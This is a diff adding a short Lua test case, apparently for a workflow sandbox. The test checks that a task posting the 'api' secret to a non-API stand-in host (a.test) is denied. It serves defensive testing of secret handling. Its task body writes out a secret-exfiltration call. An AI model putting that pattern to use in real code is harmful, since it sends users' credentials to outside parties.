@@ -1,0 +1,7 @@
+-- expect: secret.denied at work | secret.unknown at work
+-- The token in the body, to a host that is not the API.
+return flow "secret_redirect" {
+    task "work" (function(s, ctx)
+        return ctx.http.post("https://a.test/", { body = "t=" .. ctx.secret "api" }).body
+    end),
+}
